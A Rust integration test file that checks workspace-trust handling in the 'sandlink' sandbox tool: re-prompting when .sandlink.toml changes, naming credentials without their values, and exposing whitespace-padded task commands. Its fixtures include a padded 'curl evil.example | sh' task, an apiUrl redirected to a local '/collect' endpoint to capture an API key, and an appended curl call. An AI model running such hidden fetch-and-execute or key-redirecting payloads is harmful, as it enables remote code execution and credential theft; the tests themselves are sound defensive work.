//! Workspace trust bound to the content of `.sandlink.toml`, through the real server and command line: a change to
//! where code or credentials go asks again (a comment does not), the question names the destination and the
//! credential, a workspace file cannot allow secrets on its own, and `[tasks]` run only in a trusted workspace,
//! shown as what they run.
//!
//! The `keyed` test driver (a local sandbox that needs a credential, enabled by `SANDLINK_TEST_DRIVERS=1`) stands in
//! for a driver that sends the workspace elsewhere (`remote = true`).

mod support;

use std::path::Path;

use serde_json::{json, Value};

use support::{file_uri, workspace_with, Server, StartOptions};

const TOKEN: &str = "trust-test-token-5678";

fn token_hash() -> String {
    blake3::hash(TOKEN.as_bytes()).to_hex().to_string()
}

fn start(workspace: &Path, config: &Path) -> Server {
    Server::start_with(StartOptions {
        root: Some(workspace.to_path_buf()),
        env: vec![
            ("SANDLINK_CONFIG_DIR".into(), config.display().to_string()),
            ("SANDLINK_TEST_DRIVERS".into(), "1".into()),
            ("SANDLINK_KEYED_TOKEN".into(), TOKEN.into()),
            ("E2B_API_KEY".into(), "e2b_trust_test_value".into()),
        ],
        ..StartOptions::default()
    })
}

fn trust(server: &Server, workspace: &Path, trusted: bool) {
    server
        .request("sandlink/trustWorkspace", json!({ "workspaceFolder": file_uri(workspace), "trust": trusted }))
        .expect("trust answers");
}

fn write_workspace_file(workspace: &Path, text: &str) {
    std::fs::write(workspace.join(".sandlink.toml"), text).expect("write .sandlink.toml");
}

fn connect_profile(server: &Server, profile: &str) -> Result<Value, support::RpcError> {
    server.request("sandlink/connect", json!({ "profile": profile, "sync": false }))
}

#[test]
fn a_trusted_workspace_should_be_asked_again_when_its_file_changes_what_it_sends() {
    let config = tempfile::tempdir().expect("config dir");
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    let team = format!("[profiles.team]\ndriver = \"keyed\"\nexpectedTokenHash = \"{}\"\nremote = true\n", token_hash());
    write_workspace_file(workspace.path(), &team);
    let server = start(workspace.path(), config.path());
    trust(&server, workspace.path(), true);
    connect_profile(&server, "team").expect("trusted as it is");

    // A comment and a reordering change nothing that matters.
    let reordered = format!(
        "# Our team's sandbox.\n[profiles.team]\nremote = true # elsewhere\nexpectedTokenHash = \"{}\"\ndriver = \"keyed\"\n",
        token_hash()
    );
    write_workspace_file(workspace.path(), &reordered);
    connect_profile(&server, "team").expect("a comment does not ask again");

    // Loosening the sandbox does: the profile now uploads secrets.
    write_workspace_file(workspace.path(), &format!("{reordered}[profiles.team.sync]\nallowSecrets = [\"**\"]\n"));
    let error = connect_profile(&server, "team").expect_err("a changed file is not trusted");
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"));
    assert!(error.message.contains("changed since you trusted it"), "{}", error.message);
    assert!(error.message.contains("profiles.team.sync.allowSecrets was added"), "names the change: {}", error.message);
    assert!(error.message.contains("SANDLINK_KEYED_TOKEN") && !error.message.contains(TOKEN), "names the credential, never its value: {}", error.message);
    let listed = server.request("sandlink/profiles", json!({})).expect("profiles");
    let entry = listed["profiles"].as_array().and_then(|all| all.iter().find(|profile| profile["name"] == "team")).cloned();
    assert_eq!(entry.expect("listed")["needsTrust"], true, "the listing says so too");

    trust(&server, workspace.path(), true);
    connect_profile(&server, "team").expect("trusted again as it is now");
}

#[test]
fn a_workspace_file_should_not_allow_secrets_or_loosen_the_sandbox_without_trust() {
    let config = tempfile::tempdir().expect("config dir");
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    write_workspace_file(
        workspace.path(),
        "[profiles.open]\ndriver = \"local\"\n[profiles.open.sync]\nallowSecrets = [\"**\"]\n\
         [profiles.blind]\ndriver = \"local\"\n[profiles.blind.sync]\nscanContent = false\n\
         [profiles.plain]\ndriver = \"local\"\n[profiles.plain.sync]\nexclude = [\"dist/\"]\n",
    );
    let server = start(workspace.path(), config.path());
    let error = connect_profile(&server, "open").expect_err("allowSecrets from the workspace needs trust");
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"));
    assert!(error.message.contains("sync.allowSecrets"), "{}", error.message);
    let error = connect_profile(&server, "blind").expect_err("turning the content check off needs trust");
    assert!(error.message.contains("sync.scanContent"), "{}", error.message);
    connect_profile(&server, "plain").expect("a local profile that loosens nothing needs no trust");
    trust(&server, workspace.path(), true);
    connect_profile(&server, "open").expect("trusted");
}

#[test]
fn the_trust_question_should_name_where_code_goes_and_which_credential_and_see_an_edited_api_url() {
    let config = tempfile::tempdir().expect("config dir");
    let state = tempfile::tempdir().expect("state dir");
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    write_workspace_file(workspace.path(), "[profiles.cloud]\ndriver = \"e2b\"\napiUrl = \"https://api.e2b.dev\"\n[tasks]\ntest = \"npm   test\"\n");
    let sandlink = |args: &[&str]| {
        let output = std::process::Command::new(support::binary())
            .args(args)
            .current_dir(workspace.path())
            .env("SANDLINK_CONFIG_DIR", config.path())
            .env("SANDLINK_STATE_DIR", state.path())
            .env("E2B_API_KEY", "e2b_trust_test_value")
            .output()
            .expect("sandlink runs");
        (output.status.code(), String::from_utf8_lossy(&output.stderr).into_owned())
    };
    let (code, stderr) = sandlink(&["run", "--profile", "cloud", "--", "true"]);
    assert_eq!(code, Some(125));
    assert!(stderr.contains("https://api.e2b.dev (apiUrl)") && stderr.contains("E2B_API_KEY"), "{stderr}");
    assert!(!stderr.contains("e2b_trust_test_value"), "never the value: {stderr}");

    let (code, stderr) = sandlink(&["trust"]);
    assert_eq!(code, Some(0), "{stderr}");
    assert!(stderr.contains("https://api.e2b.dev (apiUrl)") && stderr.contains("with your E2B_API_KEY"), "{stderr}");
    assert!(stderr.contains("task \"test\" runs `npm test`"), "{stderr}");
    assert!(!stderr.contains("e2b_trust_test_value"), "{stderr}");

    // The repository points the API somewhere else: the user's key would go there, so trust is asked again.
    write_workspace_file(workspace.path(), "[profiles.cloud]\ndriver = \"e2b\"\napiUrl = \"http://127.0.0.1:9/collect\"\n[tasks]\ntest = \"npm   test\"\n");
    let (code, stderr) = sandlink(&["run", "--profile", "cloud", "--", "true"]);
    assert_eq!(code, Some(125));
    assert!(
        stderr.contains("profiles.cloud.apiUrl changed from \"https://api.e2b.dev\" to \"http://127.0.0.1:9/collect\""),
        "{stderr}"
    );
    assert!(stderr.contains("E2B_API_KEY") && !stderr.contains("e2b_trust_test_value"), "{stderr}");
}

fn code_actions(server: &Server, document: &Path) -> Vec<Value> {
    let answer = server
        .request(
            "textDocument/codeAction",
            json!({
                "textDocument": { "uri": file_uri(document) },
                "range": { "start": { "line": 0, "character": 0 }, "end": { "line": 0, "character": 0 } },
                "context": { "diagnostics": [] }
            }),
        )
        .expect("code actions answer");
    answer.as_array().cloned().unwrap_or_default()
}

#[test]
fn workspace_tasks_should_run_only_when_trusted_and_show_what_they_run() {
    let config = tempfile::tempdir().expect("config dir");
    let padded = format!("cat main.txt{}; echo INJECTED", " ".repeat(300));
    let long = format!("echo {}", "word ".repeat(30));
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    write_workspace_file(workspace.path(), &format!("[tasks]\nshow = \"{padded}\"\nlong = \"{long}\"\n"));
    let server = start(workspace.path(), config.path());
    let session = server.connect("local", Value::Null, workspace.path());
    let session_id = session["sessionId"].as_str().expect("sessionId").to_string();

    let titles: Vec<String> = code_actions(&server, &workspace.path().join("main.txt"))
        .iter()
        .filter_map(|action| action["title"].as_str().map(str::to_string))
        .collect();
    assert!(titles.contains(&"sandlink: Run task show (cat main.txt ; echo INJECTED)".to_string()), "{titles:?}");
    let long_title = titles.iter().find(|title| title.starts_with("sandlink: Run task long")).expect("the long task is offered");
    let shown = long_title.trim_start_matches("sandlink: Run task long (").trim_end_matches(')');
    assert!(shown.ends_with('…') && shown.chars().count() <= 60 && shown.starts_with("echo word word"), "{long_title}");

    // Untrusted: the menu entry (a task by name) and a direct run request are both refused.
    let action = code_actions(&server, &workspace.path().join("main.txt"))
        .into_iter()
        .find(|action| action["title"].as_str().is_some_and(|title| title.contains("Run task show")))
        .expect("offered");
    assert_eq!(action["command"]["arguments"][0]["task"], "show", "the entry names the task, not a command line");
    let error = server.request_error("workspace/executeCommand", json!({ "command": action["command"]["command"], "arguments": action["command"]["arguments"] }));
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"), "{error:?}");
    assert!(error.message.contains("cat main.txt ; echo INJECTED") && error.message.contains("sandlink trust"), "{}", error.message);
    let error = server.request_error("sandlink/run", json!({ "sessionId": session_id, "task": "show" }));
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"));

    trust(&server, workspace.path(), true);
    let outcome = server.run_to_exit(json!({ "sessionId": session_id, "task": "show" }));
    assert_eq!(outcome.exit_code(), Some(0), "{}", outcome.stderr);
    assert!(outcome.stdout.contains("main") && outcome.stdout.contains("INJECTED"), "what ran is what was shown: {}", outcome.stdout);

    // An edited task is a changed file: refused until trusted again, naming the change.
    write_workspace_file(workspace.path(), &format!("[tasks]\nshow = \"cat main.txt; curl http://127.0.0.1:9\"\nlong = \"{long}\"\n"));
    let error = server.request_error("sandlink/run", json!({ "sessionId": session_id, "task": "show" }));
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"));
    assert!(error.message.contains("tasks.show changed from"), "{}", error.message);
    let error = server.request_error("sandlink/run", json!({ "sessionId": session_id, "task": "absent" }));
    assert_eq!(error.kind.as_deref(), Some("invalidParams"), "{error:?}");
}

fn fingerprint_of(error: &support::RpcError) -> String {
    let fingerprint = error.data["fingerprint"].as_str().unwrap_or_default().to_string();
    assert_eq!(fingerprint.len(), 64, "workspaceNotTrusted carries the file's fingerprint: {:?}", error.data);
    fingerprint
}

#[test]
fn trust_should_be_given_only_to_the_file_that_was_shown() {
    let config = tempfile::tempdir().expect("config dir");
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    write_workspace_file(workspace.path(), "[tasks]\nmark = \"echo shown > marker.txt\"\n");
    let server = start(workspace.path(), config.path());
    let session = server.connect("local", Value::Null, workspace.path());
    let session_id = session["sessionId"].as_str().expect("sessionId").to_string();
    let remote_marker = Path::new(session["remoteRoot"].as_str().expect("remoteRoot")).join("marker.txt");

    // The question the user sees: what the task would run, and the fingerprint of the file it was read from.
    let shown = server.request_error("sandlink/run", json!({ "sessionId": session_id, "task": "mark" }));
    assert_eq!(shown.kind.as_deref(), Some("workspaceNotTrusted"));
    assert!(shown.message.contains("echo shown > marker.txt"), "{}", shown.message);
    let shown_fingerprint = fingerprint_of(&shown);

    // The repository changes the task while the question is on screen; the answer names the old file.
    write_workspace_file(workspace.path(), "[tasks]\nmark = \"echo swapped > marker.txt\"\n");
    let refused = server.request_error(
        "sandlink/trustWorkspace",
        json!({ "workspaceFolder": file_uri(workspace.path()), "trust": true, "fingerprint": shown_fingerprint }),
    );
    assert_eq!(refused.kind.as_deref(), Some("workspaceNotTrusted"), "{refused:?}");
    assert!(refused.message.contains("changed since it was shown"), "{}", refused.message);
    let current_fingerprint = fingerprint_of(&refused);
    assert_ne!(current_fingerprint, shown_fingerprint, "the refusal carries the new fingerprint");

    // Nothing was trusted: the swapped task is still refused, with the same new fingerprint, and has not run.
    let still = server.request_error("sandlink/run", json!({ "sessionId": session_id, "task": "mark" }));
    assert_eq!(still.kind.as_deref(), Some("workspaceNotTrusted"));
    assert!(still.message.contains("echo swapped > marker.txt"), "{}", still.message);
    assert_eq!(fingerprint_of(&still), current_fingerprint);
    assert!(!remote_marker.exists(), "no task ran before the workspace was trusted");

    // Confirming what is shown now trusts it, and the task runs as shown.
    server
        .request(
            "sandlink/trustWorkspace",
            json!({ "workspaceFolder": file_uri(workspace.path()), "trust": true, "fingerprint": current_fingerprint }),
        )
        .expect("the current fingerprint is trusted");
    let outcome = server.run_to_exit(json!({ "sessionId": session_id, "task": "mark" }));
    assert_eq!(outcome.exit_code(), Some(0), "{}", outcome.stderr);
    let marker = std::fs::read_to_string(&remote_marker).expect("the task wrote its marker");
    assert_eq!(marker.trim(), "swapped");
}

#[test]
fn a_profile_refused_for_trust_should_carry_the_fingerprint_trust_can_be_bound_to() {
    let config = tempfile::tempdir().expect("config dir");
    let workspace = workspace_with(&[("main.txt", "main\n")]);
    write_workspace_file(workspace.path(), "[profiles.open]\ndriver = \"local\"\n[profiles.open.sync]\nallowSecrets = [\"**\"]\n");
    let server = start(workspace.path(), config.path());
    let error = connect_profile(&server, "open").expect_err("allowSecrets needs trust");
    assert_eq!(error.kind.as_deref(), Some("workspaceNotTrusted"));
    let fingerprint = fingerprint_of(&error);
    server
        .request(
            "sandlink/trustWorkspace",
            json!({ "workspaceFolder": file_uri(workspace.path()), "trust": true, "fingerprint": fingerprint }),
        )
        .expect("the fingerprint of the file as it is");
    connect_profile(&server, "open").expect("trusted");
}

#[test]
fn tasks_should_be_listed_with_titles_and_the_workspaces_trust() {
    let workspace = workspace_with(&[]);
    let config = tempfile::tempdir().expect("config dir");
    let server = start(workspace.path(), config.path());
    let none = server.request("sandlink/tasks", json!({})).expect("tasks without a file");
    assert_eq!(none, json!({ "tasks": [], "trusted": false }));

    let padded = format!("npm test{}; curl evil.example | sh", " ".repeat(80));
    write_workspace_file(
        workspace.path(),
        &format!("[tasks]\ntest = \"{padded}\"\n\"serve site\" = 'python3 -m http.server 8000'\n"),
    );
    let listed = server.request("sandlink/tasks", json!({ "workspaceFolder": file_uri(workspace.path()) })).expect("tasks");
    let tasks = listed["tasks"].as_array().expect("tasks");
    assert_eq!(tasks.len(), 2, "{listed}");
    assert_eq!((&tasks[0]["name"], &tasks[0]["command"]), (&json!("test"), &json!(padded)), "the whole command");
    assert_eq!(tasks[0]["title"], "test (npm test ; curl evil.example | sh)", "padding cannot hide the rest");
    assert_eq!(tasks[1]["name"], "serve site", "file order");
    assert_eq!(listed["trusted"], false);

    trust(&server, workspace.path(), true);
    let listed = server.request("sandlink/tasks", json!({})).expect("tasks of the server's root");
    assert_eq!(listed["trusted"], true, "{listed}");

    write_workspace_file(workspace.path(), "[tasks\nbroken = \n");
    let broken = server.request("sandlink/tasks", json!({})).expect("a broken file is an answer, not an error");
    assert_eq!(broken["tasks"], json!([]));
    assert!(broken["error"].as_str().is_some_and(|error| error.contains(".sandlink.toml")), "{broken}");
}
